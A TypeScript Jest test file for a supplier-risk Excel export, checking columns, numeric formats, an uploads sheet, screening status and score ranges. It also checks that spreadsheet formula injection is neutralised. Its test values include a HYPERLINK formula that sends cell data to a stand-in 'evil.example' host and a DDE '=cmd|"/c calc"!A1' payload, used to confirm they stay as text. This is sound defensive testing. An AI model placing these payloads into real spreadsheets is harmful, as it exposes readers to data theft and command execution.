import { PassThrough } from 'node:stream';
import { describe, expect, it } from '@jest/globals';
import ExcelJS from 'exceljs';
import { priorityReason } from '../../scoring/domain/priority.js';
import {
  EXPORT_COLUMNS,
  UPLOAD_COLUMNS,
  UPLOADS_NOTE,
  UPLOADS_SHEET,
  writeSupplierExport,
  type ExportRow,
  type ExportUpload,
} from './supplier-export.js';
import {
  makeAssessment,
  makeOpenQuestion,
  makeRangedAssessment,
  makeSupplier,
  makeUncertainty,
  RULE_SET_HASH,
  SUPPLIER_NAMES,
} from './testing/report-factories.js';

const FORMULA_LIKE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  '+1',
  '-2',
  '@SUM(A1:A2)',
  '\tx',
  '\rcmd|calc',
];

// XML turns a carriage return into a line feed when the workbook is read (XML 1.0, end-of-line handling); Excel
// reads it the same way. Everything else must come back byte for byte.
function asRead(text: string | undefined): string | undefined {
  return text?.replace(/\r\n?/g, '\n');
}

async function* rowsOf(rows: ExportRow[]): AsyncGenerator<ExportRow> {
  for (const row of rows) {
    // Like a database cursor: each row arrives in its own turn of the event loop.
    yield await Promise.resolve(row);
  }
}

async function exportToBuffer(
  rows: ExportRow[],
  uploads?: ExportUpload[],
): Promise<{ buffer: Buffer; written: number }> {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on('data', (chunk: Buffer) => chunks.push(chunk));
  const finished = new Promise<void>((resolve) => out.on('end', resolve));
  const summary = await writeSupplierExport(
    rowsOf(rows),
    out,
    {
      generatedAt: '2025-01-20T14:05:00.000Z',
      generatedBy: '=cmd|"/c calc"!A1',
      ruleSetName: 'vigil-default',
      ruleSetVersion: '2025.1',
      ruleSetHash: RULE_SET_HASH,
    },
    uploads,
  );
  await finished;
  return { buffer: Buffer.concat(chunks), written: summary.rows };
}

async function readWorkbook(buffer: Buffer): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook();
  // exceljs declares its own Buffer type; a Node Buffer is what it reads.
  await workbook.xlsx.load(buffer as unknown as Parameters<typeof workbook.xlsx.load>[0]);
  return workbook;
}

function column(header: string): number {
  return EXPORT_COLUMNS.findIndex((candidate) => candidate.header === header) + 1;
}

describe(writeSupplierExport.name, () => {
  it('round-trips 1,000 suppliers with formula-looking values intact as text and no formula anywhere', async () => {
    const rows: ExportRow[] = Array.from({ length: 1000 }, (_, index) => {
      const hostile = FORMULA_LIKE[index % FORMULA_LIKE.length];
      return {
        supplierId: `id-${index}`,
        supplier: makeSupplier({
          name: index % 7 === 0 ? hostile : `${SUPPLIER_NAMES.polish} ${index}`,
          externalRef: hostile,
          city: hostile,
        }),
        assessment: makeAssessment({ recommendedActions: [hostile, 'Audit the supplier.'] }),
      };
    });

    const { buffer, written } = await exportToBuffer(rows);

    expect(written).toBe(1000);
    const workbook = await readWorkbook(buffer);
    const sheet = workbook.getWorksheet('Suppliers');
    expect(sheet?.rowCount).toBe(1001);
    rows.forEach((row, index) => {
      const excelRow = sheet!.getRow(index + 2);
      const ref = excelRow.getCell(column('Supplier ID'));
      expect(ref.value).toBe(asRead(row.supplier.externalRef));
      expect(ref.type).toBe(ExcelJS.ValueType.String);
      expect(ref.numFmt).toBe('@');
      expect(excelRow.getCell(column('Supplier name')).value).toBe(asRead(row.supplier.name));
      expect(excelRow.getCell(column('City')).value).toBe(asRead(row.supplier.city));
      expect(excelRow.getCell(column('Recommended actions')).value).toBe(
        asRead(`${row.assessment!.recommendedActions[0]}\nAudit the supplier.`),
      );
    });
    sheet!.eachRow((excelRow) =>
      excelRow.eachCell((cell) => {
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
        expect(cell.formula).toBeUndefined();
      }),
    );
  });

  it('writes scores, tiers, red flags, main drivers and missing data for each supplier', async () => {
    const assessment = makeAssessment();

    const { buffer } = await exportToBuffer([{ supplier: makeSupplier(), assessment }]);

    const workbook = await readWorkbook(buffer);
    const row = workbook.getWorksheet('Suppliers')!.getRow(2);
    expect(row.getCell(column('Score')).value).toBe(60);
    expect(row.getCell(column('Risk tier')).value).toBe('High');
    expect(row.getCell(column('Red flags')).value).toBe(1);
    expect(row.getCell(column('Red flag titles')).value).toBe('ILO indicator reported: excessive overtime');
    expect(row.getCell(column('Red flag evidence')).value).toBe(
      'Excessive overtime: yes (reported in the supplier file)',
    );
    expect(row.getCell(column('Main drivers')).value).toBe(
      'Sector: garments and textiles (+15)\nCountry: US TIP tier (+12)\nGoods on the US DOL list (+10)',
    );
    expect(row.getCell(column('Country')).value).toBe('Vietnam');
    expect(row.getCell(column('Data completeness')).value).toBe(0.82);
    expect(row.getCell(column('Rule-set hash')).value).toBe(RULE_SET_HASH);
    expect(row.getCell(column('Score')).numFmt).toBe('0.0');
  });

  it("writes the supplier's place first, then its other columns under the labels the report and the dashboard use", async () => {
    const { buffer } = await exportToBuffer([{ supplier: makeSupplier() }]);

    const sheet = (await readWorkbook(buffer)).getWorksheet('Suppliers')!;
    const cells = (row: number) =>
      Array.from({ length: 20 }, (_, index) => sheet.getRow(row).getCell(index + 1).value);
    expect(cells(1)).toEqual([
      'Rank',
      'Supplier ID',
      'Supplier name',
      'Address',
      'City',
      'Postal code',
      'Region / province',
      'Region source',
      'Country code',
      'Country',
      'Sector',
      'Sub-sector',
      'Products',
      'Supply-chain tier',
      'Workers',
      'Uses labour agencies or brokers',
      'Annual spend',
      'Currency',
      'Score',
      'Risk tier',
    ]);
    expect(cells(2)).toEqual([
      1,
      'V-10442',
      SUPPLIER_NAMES.vietnamese,
      '12 Đường Nguyễn Văn Linh, Quận 7',
      'Thành phố Hồ Chí Minh',
      '700000',
      'Hồ Chí Minh',
      'as listed',
      'VN',
      'Vietnam',
      'Garments',
      'cut-make-trim',
      'knitted garments; cotton t-shirts',
      1,
      1250,
      'yes',
      2_450_000,
      'USD',
      null,
      'Not assessed',
    ]);
    expect(sheet.getRow(2).getCell(column('Workers')).numFmt).toBe('#,##0');
  });

  it('tells two sites of one group in one city apart by the address beside the city', async () => {
    const site = (address: string) => ({
      supplier: makeSupplier({ parentCompany: 'Saigon Apparel Holdings', address }),
    });

    const { buffer } = await exportToBuffer([site('12 Nguyễn Văn Linh'), site('48 Nguyễn Văn Linh')]);

    const sheet = (await readWorkbook(buffer)).getWorksheet('Suppliers')!;
    expect(column('City')).toBe(column('Address') + 1);
    expect([2, 3].map((row) => sheet.getRow(row).getCell(column('Address')).value)).toEqual([
      '12 Nguyễn Văn Linh',
      '48 Nguyễn Văn Linh',
    ]);
  });

  it('says where the region comes from: inferred, with what it was read from, or as listed', async () => {
    const rows: ExportRow[] = [
      {
        supplier: makeSupplier({ region: 'Bình Dương', address: 'KCN Sóng Thần, Dĩ An, Bình Dương' }),
        inferred: {
          region: {
            value: 'Bình Dương',
            code: 'VN-57',
            from: 'address',
            matched: 'Bình Dương',
          },
        },
      },
      { supplier: makeSupplier({ region: 'Hồ Chí Minh' }) },
      { supplier: makeSupplier({ region: undefined }) },
      {
        supplier: makeSupplier({ region: '=1+1' }),
        inferred: { region: { value: '=1+1', from: 'city', matched: '-cmd' } },
      },
    ];

    const { buffer } = await exportToBuffer(rows);

    const sheet = (await readWorkbook(buffer)).getWorksheet('Suppliers')!;
    const cells = (header: string) =>
      [2, 3, 4, 5].map((row) => sheet.getRow(row).getCell(column(header)).value);
    expect(cells('Region / province')).toEqual(['Bình Dương', 'Hồ Chí Minh', null, '=1+1']);
    expect(cells('Region source')).toEqual([
      'inferred from the address "Bình Dương"',
      'as listed',
      null,
      'inferred from the city "-cmd"',
    ]);
    expect(sheet.getRow(5).getCell(column('Region / province')).type).toBe(ExcelJS.ValueType.String);
    expect(sheet.getRow(5).getCell(column('Region / province')).numFmt).toBe('@');
  });

  it('ranks the suppliers in the order they come, the work-list order, from 1', async () => {
    const names = ['first', 'second', 'third', 'fourth'];

    const { buffer } = await exportToBuffer(
      names.map((name, index) => ({ supplierId: `id-${index}`, supplier: makeSupplier({ name }) })),
    );

    const sheet = (await readWorkbook(buffer)).getWorksheet('Suppliers')!;
    const rows = [2, 3, 4, 5].map((row) => sheet.getRow(row));
    expect(column('Rank')).toBe(1);
    expect(rows.map((row) => row.getCell(column('Rank')).value)).toEqual([1, 2, 3, 4]);
    expect(rows.map((row) => row.getCell(column('Supplier name')).value)).toEqual(names);
    expect(rows.map((row) => row.getCell(column('Vigil supplier id')).value)).toEqual([
      'id-0',
      'id-1',
      'id-2',
      'id-3',
    ]);
  });

  it('freezes the header, filters every column over every row and gives each column its width', async () => {
    const { buffer } = await exportToBuffer([
      { supplier: makeSupplier(), assessment: makeRangedAssessment() },
      { supplier: makeSupplier({ name: 'second' }) },
      { supplier: makeSupplier({ name: 'third' }) },
    ]);

    const sheet = (await readWorkbook(buffer)).getWorksheet('Suppliers')!;
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    const last = sheet.getRow(1).getCell(EXPORT_COLUMNS.length).address.replace(/\d+$/, '');
    expect(sheet.autoFilter).toBe(`A1:${last}4`);
    EXPORT_COLUMNS.forEach((spec, index) => {
      // exceljs leaves a column of width 9, its default, out of the file and reads it back without a width.
      const width = sheet.getColumn(index + 1).width ?? 9;
      expect([spec.header, width]).toEqual([spec.header, spec.width]);
    });
    expect(sheet.getColumn(column('Supplier name')).width).toBeGreaterThanOrEqual(30);
    expect(sheet.getRow(1).getCell(EXPORT_COLUMNS.length + 1).value).toBeNull();
  });

  it('writes figures as numbers, so filters and sorts treat them as numbers', async () => {
    const assessment = makeRangedAssessment();

    const { buffer } = await exportToBuffer([{ supplier: makeSupplier(), assessment }]);

    const row = (await readWorkbook(buffer)).getWorksheet('Suppliers')!.getRow(2);
    const numeric = [
      'Rank',
      'Supply-chain tier',
      'Workers',
      'Annual spend',
      'Score',
      'Range low',
      'Range high',
      'Data confidence %',
      'Red flags',
      'Open questions',
      'Data completeness',
    ];
    for (const header of numeric) {
      expect([header, row.getCell(column(header)).type]).toEqual([header, ExcelJS.ValueType.Number]);
    }
    expect(row.getCell(column('Annual spend')).value).toBe(2_450_000);
    expect(row.getCell(column('Open questions')).value).toBe(assessment.uncertainty!.openQuestions.length);
    expect(row.getCell(column('Risk tier')).type).toBe(ExcelJS.ValueType.String);
  });

  it('marks suppliers that were never assessed instead of leaving the tier blank', async () => {
    const { buffer } = await exportToBuffer([{ supplier: makeSupplier({ name: SUPPLIER_NAMES.bengali }) }]);

    const workbook = await readWorkbook(buffer);
    const row = workbook.getWorksheet('Suppliers')!.getRow(2);
    expect(row.getCell(column('Supplier name')).value).toBe(SUPPLIER_NAMES.bengali);
    expect(row.getCell(column('Risk tier')).value).toBe('Not assessed');
    expect(row.getCell(column('Score')).value).toBeNull();
  });

  it('describes the export on a second sheet, neutralising the user name too', async () => {
    const { buffer } = await exportToBuffer([]);

    const workbook = await readWorkbook(buffer);
    const about = workbook.getWorksheet('About this export')!;
    const facts = new Map<string, unknown>();
    about.eachRow((row, number) => {
      if (number > 1) {
        facts.set(row.getCell(1).text, row.getCell(2).value);
      }
    });
    expect(facts.get('Rule-set hash')).toBe(RULE_SET_HASH);
    expect(facts.get('Suppliers')).toBe('0');
    expect(facts.get('Generated by')).toBe('=cmd|"/c calc"!A1');
    expect(about.getRow(3).getCell(2).numFmt).toBe('@');
  });

  describe('the Uploads sheet', () => {
    const upload = (overrides: Partial<ExportUpload> = {}): ExportUpload => ({
      uploadId: '5f0c6f1e-8d0a-4d2b-9b1e-2f6a1c3d4e5f',
      fileName: 'vendor master 2025-03.xlsx',
      sha256: 'a'.repeat(64),
      list: 'ERP vendor master',
      uploadedBy: 'anna.kowalska@example.com',
      uploadedAt: '2025-03-02T09:15:00.000Z',
      rowsRead: 12,
      rowsImported: 8,
      rowsNew: 5,
      rowsUpdated: 2,
      rowsUnchanged: 1,
      rowsDuplicate: 2,
      rowsRejected: 1,
      rowsBlank: 1,
      rowsWithWarnings: 1,
      ...overrides,
    });

    it('lists every upload given, in order, with counts as numbers that add up to the rows read', async () => {
      const uploads = [
        upload(),
        ...Array.from({ length: 46 }, (_, index) =>
          upload({
            fileName: `brand list ${index}.csv`,
            list: index % 2 === 0 ? null : 'Brand disclosure',
            uploadedAt: `2025-02-${String(28 - (index % 28)).padStart(2, '0')}T08:00:00.000Z`,
            rowsRead: 100 + index,
            rowsImported: 90 + index,
            rowsNew: 90 + index,
            rowsUpdated: 0,
            rowsUnchanged: 0,
            rowsDuplicate: 6,
            rowsRejected: 4,
            rowsBlank: 0,
            rowsWithWarnings: 0,
          }),
        ),
      ];

      const { buffer } = await exportToBuffer([{ supplier: makeSupplier() }], uploads);

      const workbook = await readWorkbook(buffer);
      expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual([
        'Suppliers',
        UPLOADS_SHEET,
        'About this export',
      ]);
      const sheet = workbook.getWorksheet(UPLOADS_SHEET)!;
      expect(sheet.getRow(1).getCell(1).value).toBe(UPLOADS_NOTE);
      expect(sheet.getRow(2).values).toEqual([undefined, ...UPLOAD_COLUMNS.map((spec) => spec.header)]);
      expect(sheet.rowCount).toBe(2 + uploads.length);
      expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 2 });
      const last = sheet.getRow(2).getCell(UPLOAD_COLUMNS.length).address.replace(/\d+$/, '');
      expect(sheet.autoFilter).toBe(`A2:${last}${2 + uploads.length}`);

      const at = (header: string): number =>
        UPLOAD_COLUMNS.findIndex((candidate) => candidate.header === header) + 1;
      uploads.forEach((expected, index) => {
        const row = sheet.getRow(index + 3);
        const count = (header: string): number => {
          const cell = row.getCell(at(header));
          expect([header, cell.type]).toEqual([header, ExcelJS.ValueType.Number]);
          return cell.value as number;
        };
        expect(row.getCell(at('File name')).value).toBe(expected.fileName);
        expect(row.getCell(at('Source list')).value).toBe(expected.list);
        expect(row.getCell(at('SHA-256')).value).toBe(expected.sha256);
        expect(row.getCell(at('Uploaded by')).value).toBe(expected.uploadedBy);
        expect(row.getCell(at('Uploaded at')).value).toBe(expected.uploadedAt);
        expect(row.getCell(at('Vigil upload id')).value).toBe(expected.uploadId);
        expect(count('Rows read')).toBe(expected.rowsRead);
        expect(count('Imported')).toBe(count('New') + count('Updated') + count('Unchanged'));
        expect(count('Rows read')).toBe(
          count('Imported') + count('Duplicates') + count('Rejected') + count('Blank'),
        );
        expect(count('Imported with warnings')).toBe(expected.rowsWithWarnings);
      });
    });

    it('keeps a formula-looking file name or user as text', async () => {
      const { buffer } = await exportToBuffer(
        [],
        [upload({ fileName: '=HYPERLINK("http://evil.example","x").xlsx', uploadedBy: '@admin' })],
      );

      const sheet = (await readWorkbook(buffer)).getWorksheet(UPLOADS_SHEET)!;
      const at = (header: string): number =>
        UPLOAD_COLUMNS.findIndex((candidate) => candidate.header === header) + 1;
      for (const [header, value] of [
        ['File name', '=HYPERLINK("http://evil.example","x").xlsx'],
        ['Uploaded by', '@admin'],
      ]) {
        const cell = sheet.getRow(3).getCell(at(header));
        expect(cell.value).toBe(value);
        expect(cell.type).toBe(ExcelJS.ValueType.String);
        expect(cell.numFmt).toBe('@');
      }
    });

    it('says on the About sheet how many uploads there are and that the sheet has all of them', async () => {
      const { buffer } = await exportToBuffer([], [upload(), upload({ fileName: 'second.csv' })]);

      const about = (await readWorkbook(buffer)).getWorksheet('About this export')!;
      const facts = new Map<string, unknown>();
      about.eachRow((row) => facts.set(row.getCell(1).text, row.getCell(2).value));
      expect(facts.get('Uploads')).toBe(`2, every completed upload (sheet "${UPLOADS_SHEET}")`);
      expect(facts.get('Order')).toContain('Work-list priority');
    });
  });

  describe('screening against enforcement lists', () => {
    const listing = {
      list: 'uflpa' as const,
      editionAsOf: '2026-08-03',
      entryName: 'Hetian Taida Apparel Co., Ltd',
      section: '2(d)(2)(B)(i)',
      effectiveDate: '2022-06-21',
      matched: 'Hetian Taida Apparel Co., Ltd',
      party: 'supplier name "Hotan Taida Apparel"',
      decidedBy: 'li.wei@example.com',
      decidedOn: '2025-01-14',
      reason: 'Same company: address and registration number match the listing',
    };

    it("writes each supplier's status with its counts, and a priority reason that counts the hits awaiting review", async () => {
      const assessment = makeRangedAssessment();
      const rows: ExportRow[] = [
        { supplier: makeSupplier({ name: 'never raised' }), assessment, screening: null },
        {
          supplier: makeSupplier({ name: 'two open' }),
          assessment,
          screening: { confirmed: [], openHits: 2 },
        },
        {
          supplier: makeSupplier({ name: 'confirmed and open' }),
          assessment,
          screening: { confirmed: [listing], openHits: 1 },
        },
        { supplier: makeSupplier({ name: 'not assessed' }), screening: { confirmed: [], openHits: 1 } },
      ];

      const { buffer } = await exportToBuffer(rows);

      const sheet = (await readWorkbook(buffer)).getWorksheet('Suppliers')!;
      const cells = (header: string) =>
        [2, 3, 4, 5].map((row) => sheet.getRow(row).getCell(column(header)).value);
      expect(cells('Screening')).toEqual([
        'Clear',
        'Awaiting review (2)',
        'Confirmed (1); awaiting review (1)',
        'Awaiting review (1)',
      ]);
      expect(cells('Priority reason')).toEqual([
        priorityReason(assessment),
        priorityReason({ ...assessment, openScreeningHits: 2 }),
        priorityReason({ ...assessment, openScreeningHits: 1 }),
        null,
      ]);
      expect(cells('Priority reason')[1]).toContain('2 enforcement-list hits awaiting review (ask first)');
      // Written through the same neutralising writer as every other cell: plain text, never a formula.
      const cell = sheet.getRow(3).getCell(column('Screening'));
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.formula).toBeUndefined();
    });
  });

  describe('ranges and open questions', () => {
    const UNCERTAINTY_COLUMNS = [
      'Range low',
      'Range high',
      'Expected score (priors)',
      'Could reach',
      'Data confidence',
      'Data confidence %',
    ];

    it('writes the range, confidence, "could reach", priority reason and one follow-up per question', async () => {
      const shared = 'Ask for the payroll register of the last three months.';
      const uncertainty = makeUncertainty({
        range: { low: 41.5, high: 77.25 },
        openQuestions: [
          makeOpenQuestion({ indicatorId: 'ilo-wages', followUp: shared, couldRaiseRedFlag: true }),
          makeOpenQuestion({ indicatorId: 'workforce-overtime', followUp: 'Ask for working-hour records.' }),
          makeOpenQuestion({ indicatorId: 'ilo-deductions', followUp: shared }),
          // The same question twice (as a stored assessment could list it): asked once.
          makeOpenQuestion({ indicatorId: 'workforce-overtime', followUp: 'Ask for the time sheets.' }),
        ],
      });
      const assessment = makeRangedAssessment({ uncertainty });

      const { buffer } = await exportToBuffer([{ supplier: makeSupplier(), assessment }]);

      const row = (await readWorkbook(buffer)).getWorksheet('Suppliers')!.getRow(2);
      const cell = (header: string) => row.getCell(column(header));
      expect(cell('Range low').value).toBe(uncertainty.range.low);
      expect(cell('Range high').value).toBe(uncertainty.range.high);
      expect(cell('Could reach').value).toBe('Critical');
      expect(cell('Data confidence').value).toBe('Medium');
      expect(cell('Data confidence %').value).toBe(uncertainty.confidence);
      expect(cell('Data confidence %').numFmt).toBe('0%');
      expect(cell('Priority reason').value).toBe(priorityReason(assessment));
      expect(cell('Open questions').value).toBe(3);
      expect(cell('Follow-ups').value).toBe(`${shared}\nAsk for working-hour records.`);
    });

    it('leaves them empty for an assessment made before ranges, which still has its priority reason', async () => {
      const assessment = makeAssessment();

      const { buffer } = await exportToBuffer([{ supplier: makeSupplier(), assessment }]);

      const row = (await readWorkbook(buffer)).getWorksheet('Suppliers')!.getRow(2);
      for (const header of UNCERTAINTY_COLUMNS) {
        expect([header, row.getCell(column(header)).value]).toEqual([header, null]);
      }
      expect(row.getCell(column('Priority reason')).value).toBe(priorityReason(assessment));
    });

    it('asks an assessment made before ranges once per indicator it lacks data for, not once per field', async () => {
      const payroll = 'Ask for the payroll register of the last three months.';
      const assessment = makeAssessment({
        missingData: [
          { field: 'wagesWithheld', indicatorId: 'ilo-wages', followUp: payroll },
          { field: 'debtBondage', indicatorId: 'ilo-wages', followUp: 'Ask about debts.' },
          { field: 'excessiveOvertime', indicatorId: 'ilo-overtime', followUp: 'Ask for time sheets.' },
          { field: 'wagesWithheld', indicatorId: 'ilo-deductions', followUp: payroll },
        ],
      });

      const { buffer } = await exportToBuffer([{ supplier: makeSupplier(), assessment }]);

      const row = (await readWorkbook(buffer)).getWorksheet('Suppliers')!.getRow(2);
      expect(row.getCell(column('Open questions')).value).toBe(3);
      expect(row.getCell(column('Follow-ups')).value).toBe(`${payroll}\nAsk for time sheets.`);
    });

    it('keeps a formula-looking follow-up as text', async () => {
      const followUp = '=HYPERLINK("http://evil.example","ask")';
      const assessment = makeRangedAssessment({
        uncertainty: makeUncertainty({ openQuestions: [makeOpenQuestion({ followUp })] }),
      });

      const { buffer } = await exportToBuffer([{ supplier: makeSupplier(), assessment }]);

      const cell = (await readWorkbook(buffer))
        .getWorksheet('Suppliers')!
        .getRow(2)
        .getCell(column('Follow-ups'));
      expect(cell.value).toBe(followUp);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.numFmt).toBe('@');
    });
  });
});
